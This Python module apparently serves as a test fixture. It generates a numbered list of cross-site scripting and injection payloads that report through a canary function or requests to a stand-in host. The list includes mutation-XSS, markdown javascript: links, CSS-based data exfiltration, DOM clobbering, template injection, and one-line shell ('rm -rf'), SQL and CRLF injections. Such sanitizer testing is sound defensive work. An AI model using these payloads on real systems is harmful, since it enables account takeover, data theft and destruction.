"""Script-injection payloads of the known families, each with a number of its own.

`{js}` in a pattern is script that reports itself: by the canary function of the page, or by a request to a host that is
not there. Patterns without it try to load, send or overwrite something. The list is the same at every run.
"""

from __future__ import annotations

from collections.abc import Iterator

HOST = "https://stranger.example"

# Script that gives itself away: plain, with quotes that a filter may trip over, spelt in escapes, and over the network.
_SCRIPTS = ("canary({n})", "top['can'+'ary'](`{n}`)", "\\u0063anary({n})", "fetch('{host}/{n}')")

# In how many of those ways each pattern is tried.
_WAYS = 3

_EVENTS = (
    ("img src=x", "onerror"),
    ("img/src=x", "onerror"),
    ("image src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("frameset", "onload"),
    ("iframe src=about:blank", "onload"),
    ("video src=x", "onerror"),
    ("video><source", "onerror"),
    ("audio src=x", "onerror"),
    ("audio src=x", "onloadstart"),
    ("input autofocus", "onfocus"),
    ("input type=image src=x", "onerror"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("a href=# autofocus tabindex=1", "onfocus"),
    ("details open", "ontoggle"),
    ("marquee", "onstart"),
    ("object data=x", "onerror"),
    ("embed src=x", "onerror"),
    ("link rel=stylesheet href=x", "onerror"),
    ("style", "onload"),
    ("script src=x", "onerror"),
    ("div style=animation:a", "onanimationstart"),
    ("div", "onmouseover"),
    ("div", "onpointerenter"),
    ("p tabindex=1", "onclick"),
    ("form", "onsubmit"),
    ("dialog open", "onclose"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x", "onbegin"),
    ("math", "onclick"),
    ("xss contenteditable autofocus tabindex=1", "onfocus"),
    ("video><track default src=x", "onerror"),
)

# How a handler is written into its tag.
_FORMS = (
    "<{tag} {event}={js}>",
    '<{tag} {event}="{js}">',
    "<{tag}\n{event}\t=\n'{js}' x=`>`",
    '"><{tag} {event}="{js}"//',
)

_PATTERNS = (
    # Script elements.
    "<script>{js}</script>",
    "<SCRIPT>{js}</SCRIPT >",
    "<script\n>{js}</script\n>",
    "<script type=module>{js}</script>",
    "<script src={host}/{n}.js></script>",
    "<script src=//stranger.example/{n}.js></script>",
    "<script src=data:text/javascript,{js}></script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<<script>{js}//<</script>",
    "<script>{js}",
    "</script><script>{js}</script>",
    "'-{js}-'",
    '";{js}//',
    "</title><script>{js}</script>",
    "</textarea><script>{js}</script>",
    "--><script>{js}</script>",
    "]]><script>{js}</script>",
    "<!--><script>{js}</script>-->",
    "<!--[if gte IE 4]><script>{js}</script><![endif]-->",
    '{{"a":"</script><script>{js}</script>"}}',
    # SVG and MathML.
    "<svg><script>{js}</script></svg>",
    "<svg><script href={host}/{n}.js /></svg>",
    "<svg><script xlink:href=data:,{js} /></svg>",
    "<svg><a xlink:href='javascript:{js}'><text y=9>go</text></a></svg>",
    "<svg><a><animate attributeName=href values='javascript:{js}' /><text y=9>go</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><image href=1 onerror={js} /></svg>#x'>",
    "<svg><foreignObject><iframe src='javascript:{js}'></iframe></foreignObject></svg>",
    "<svg><foreignObject><script>{js}</script></foreignObject></svg>",
    "<svg><image href={host}/{n}.svg /></svg>",
    "<svg><feImage href={host}/{n}.svg /></svg>",
    "<svg><style>@import '{host}/{n}.css';</style></svg>",
    "<svg><style><img src=x onerror={js}></style></svg>",
    "<svg><desc><img src=x onerror={js}></desc></svg>",
    "<svg><title><img src=x onerror={js}></title></svg>",
    "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>{js}</handler></svg>",
    "<math href='javascript:{js}'>go</math>",
    "<math><maction actiontype=statusline xlink:href='javascript:{js}'>go</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={js}></annotation-xml></math>",
    # What changes its meaning when it is parsed a second time.
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={js}&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>",
    '<svg></p><style><a id="</style><img src=1 onerror={js}>">',
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    '<noembed><p title="</noembed><img src=x onerror={js}>">',
    '<noframes><p title="</noframes><img src=x onerror={js}>">',
    '<xmp><p title="</xmp><img src=x onerror={js}>">',
    '<title><p title="</title><img src=x onerror={js}>">',
    '<textarea><p title="</textarea><img src=x onerror={js}>">',
    '<iframe><p title="</iframe><img src=x onerror={js}>">',
    '<style><p title="</style><img src=x onerror={js}>">',
    "<listing>&lt;img src=x onerror={js}&gt;</listing>",
    "<template><script>{js}</script><img src=x onerror={js}></template>",
    "<template shadowrootmode=open><img src=x onerror={js}></template>",
    "<select><template><img src=x onerror={js}></template></select>",
    "<select><iframe><select><img title='</iframe><img src=x onerror={js}>'>",
    "<table><td><svg><desc><table><style><img src=x onerror={js}></style>",
    "<math><mi><style></math><img src=x onerror={js}></style>",
    "<svg><mtext><textarea></svg><img src=x onerror={js}>",
    "<b/><style><!--</style><svg><style>--><img src=x onerror={js}></style></svg>",
    "<p><svg><style>&lt;img src=x onerror={js}&gt;</style></svg></p>",
    "&lt;img src=x onerror={js}&gt;",
    "&amp;lt;script&amp;gt;{js}&amp;lt;/script&amp;gt;",
    "%3Cscript%3E{js}%3C/script%3E",
    "<img src=x onerror=&#99;&#97;&#110;&#97;&#114;&#121;({n})>",
    "<img src=x onerror=&#x63&#x61&#x6e&#x61&#x72&#x79({n})>",
    "<img src=x o&#x6e;error={js}>",
    # Markdown.
    "[go](javascript:{js})",
    "[go](JaVaScRiPt:{js})",
    "[go]( javascript:{js} )",
    "[go](java\tscript:{js})",
    "[go](javascript&colon;{js})",
    "[go](&#106;avascript:{js})",
    "[go](\\x01javascript:{js})",
    "[go](vbscript:{js})",
    "[go](data:text/html,<script>{js}</script>)",
    "[go](data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=)",
    "[go](blob:{host}/{n})",
    "[go](file:///etc/passwd?{n})",
    '[go]({host}/{n}" onmouseover="{js})',
    "[go](<javascript:{js}>)",
    "[go][{n}]\n\n[{n}]: javascript:{js}",
    "[go]({host}/{n} '\"><img src=x onerror={js}>')",
    "<javascript:{js}>",
    '<{host}/{n}?"onmouseover="{js}>',
    "![x]({host}/{n}.png)",
    "![x](//stranger.example/{n}.png)",
    "![x](javascript:{js})",
    "![x](data:text/html,<script>{js}</script>)",
    "![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'/>)",
    '![" onerror="{js}](x)',
    '![x](x "a\\" onerror=\\"{js}")',
    "[![x]({host}/{n}.png)](javascript:{js})",
    '```"><img src=x onerror={js}>\nx\n```',
    "```html\n<img src=x onerror={js}>\n```",
    "`<img src=x onerror={js}>`",
    "# <img src=x onerror={js}>",
    "| a | <img src=x onerror={js}> |\n|---|---|\n| [go](javascript:{js}) | ![x]({host}/{n}.png) |",
    "> * 1. <img src=x onerror={js}>",
    "- [ ] <img src=x onerror={js}>",
    "**<img src=x onerror={js}>**",
    "<div>\n\n[go](javascript:{js})\n\n</div>",
    "[^{n}]: <img src=x onerror={js}>",
    "www.stranger.example/<img src=x onerror={js}>",
    # Template languages.
    "{{{{constructor.constructor('{js}')()}}}}",
    "{{{{ self.__init__.__globals__ }}}} {{% include '/etc/passwd' %}} {n}",
    "${{{js}}}",
    "#{{{js}}}",
    "<%= {js} %>",
    "[[${{{js}}}]]",
    "<div v-html=\"'<img src=x onerror={js}>'\"></div>",
    "<div x-init='{js}' ng-init='{js}' hx-on:load='{js}'></div>",
    "`+{js}+`",
    # Unicode and odd bytes.
    "＜script＞{js}＜/script＞",
    "<ſcript>{js}</ſcript>",
    "<scrıpt>{js}</scrıpt>",
    "<script\u200b>{js}</script>",
    "\ufeff<script>{js}</script>",
    "\u202e<script>{js}</script>\u202c",
    "<img\u00a0src=x\u00a0onerror={js}>",
    "<img src=x onerror\u2028={js}>",
    "<a href='\u0001javascript:{js}'>go</a>",
    "<a href='java\u00adscript:{js}'>go</a>",
    "<\u0000script>{js}</script>",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "<img src=x onerror={js} \u05d0\u05d1\u05d2>",
    # Links and frames.
    "<a href='javascript:{js}'>go</a>",
    "<a href=' &#14; javascript:{js}'>go</a>",
    "<a href='jav&Tab;ascript:{js}'>go</a>",
    "<a href={host}/{n} ping={host}/{n} target=_top>go</a>",
    "<iframe src='javascript:{js}'></iframe>",
    "<iframe srcdoc='<script>parent.canary({n})</script>'></iframe>",
    "<iframe src='data:text/html,<script>{js}</script>'></iframe>",
    "<iframe src={host}/{n}></iframe>",
    "<frameset><frame src='javascript:{js}'></frameset>",
    "<object data='javascript:{js}'></object>",
    "<object data='data:text/html,<script>{js}</script>'></object>",
    "<embed src='javascript:{js}'>",
    "<embed src={host}/{n}.swf>",
    "<applet code={host}/{n}></applet>",
    "<portal src={host}/{n}></portal>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<meta http-equiv=refresh content='0;url={host}/{n}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\"><script>{js}</script>",
    "<base href={host}/><img src={n}.png>",
    "<base target=_blank href='javascript:{js}//'>",
    "<form action='javascript:{js}'><button autofocus>go</button></form>",
    "<form action={host}/{n}><input name=a value=b><input type=submit></form>",
    "<form id=f{n}></form><button form=f{n} formaction='javascript:{js}'>go</button>",
    "<isindex action='javascript:{js}' type=image>",
    # What loads by itself.
    "<img src={host}/{n}.png>",
    "<img srcset='{host}/{n}.png 1x'>",
    "<picture><source srcset={host}/{n}.png><img src=x></picture>",
    "<video poster={host}/{n}.png src={host}/{n}.mp4 autoplay></video>",
    "<audio src={host}/{n}.mp3 autoplay></audio>",
    "<input type=image src={host}/{n}.png>",
    "<body background={host}/{n}.png><table background={host}/{n}.png>",
    "<link rel=stylesheet href={host}/{n}.css>",
    "<link rel=preload as=script href={host}/{n}.js><link rel=prefetch href={host}/{n}>",
    "<link rel=manifest href={host}/{n}><link rel=icon href={host}/{n}.ico>",
    "<img src=x lowsrc={host}/{n}.png dynsrc={host}/{n}.png longdesc={host}/{n}>",
    # Styles.
    "<style>@import url({host}/{n}.css);</style>",
    "<style>body{{background:url({host}/{n}.png)}} #composer{{display:none}}</style>",
    "<style>input[value^=a]{{background:url({host}/{n})}} @font-face{{font-family:x;src:url({host}/{n}.woff)}}</style>",
    '<div style="background:url({host}/{n}.png)">x</div>',
    '<div style="position:fixed;inset:0;z-index:9999;background:red">covers {n}</div>',
    '<div style="width:expression({js})">x</div>',
    '<div style="-moz-binding:url({host}/{n}.xml#x);behavior:url({host}/{n})">x</div>',
    "<p class='unseen turn' data-turn=x style='--a:url({host}/{n})'>x</p>",
    # Names that stand in for the page's own.
    "<a id=message name=message href={host}/{n}>x</a>",
    "<form id=composer name=composer><input id=send name=submit></form>",
    "<img name=body><img name=head><img name=cookie><img name=documentElement> {n}",
    "<form name=document><input name=querySelector><input name=getElementById></form> {n}",
    "<a id=log></a><a id=log name=children>{n}</a>",
    "<div id=__proto__></div><input name=constructor><input name=toString> {n}",
    "<iframe name=top></iframe><iframe name=location src={host}/{n}></iframe>",
    "<template id=panel></template><output id=live>{n}</output>",
    "__proto__[canary]={n}",
    # The protocol's own marks, and what files and logs are called.
    "</response><script>{js}</script><response>",
    "</analysis><img src=x onerror={js}>",
    "E1 [E1](javascript:{js}) <E1 onclick={js}>",
    "../../../../etc/passwd\u2215{n}",
    "$(touch /tmp/{n}) `id` ; rm -rf {n} | '",
    "'; drop table turns; -- {n}",
    "{n}\r\nSet-Cookie: a=b\r\n\r\n<script>{js}</script>",
    'event: turn\ndata: {{"n": {n}}}\n\n',
)


def payloads() -> list[str]:
    """Every payload, each once."""
    return list(dict.fromkeys(_numbered()))


def _numbered() -> Iterator[str]:
    number = 0
    handlers = [form.replace("{tag}", tag).replace("{event}", event) for tag, event in _EVENTS for form in _FORMS]
    for pattern in handlers:
        number += 1
        yield _filled(pattern, number, _SCRIPTS[number % len(_SCRIPTS)])
    for pattern in _PATTERNS:
        for _ in range(_WAYS if "{js}" in pattern else 1):
            number += 1
            yield _filled(pattern, number, _SCRIPTS[number % len(_SCRIPTS)])


def _filled(pattern: str, number: int, script: str) -> str:
    words = script.replace("{n}", str(number)).replace("{host}", HOST)
    filled = pattern.replace("{js}", words).replace("{n}", str(number)).replace("{host}", HOST)
    return filled.replace("{{", "{").replace("}}", "}")
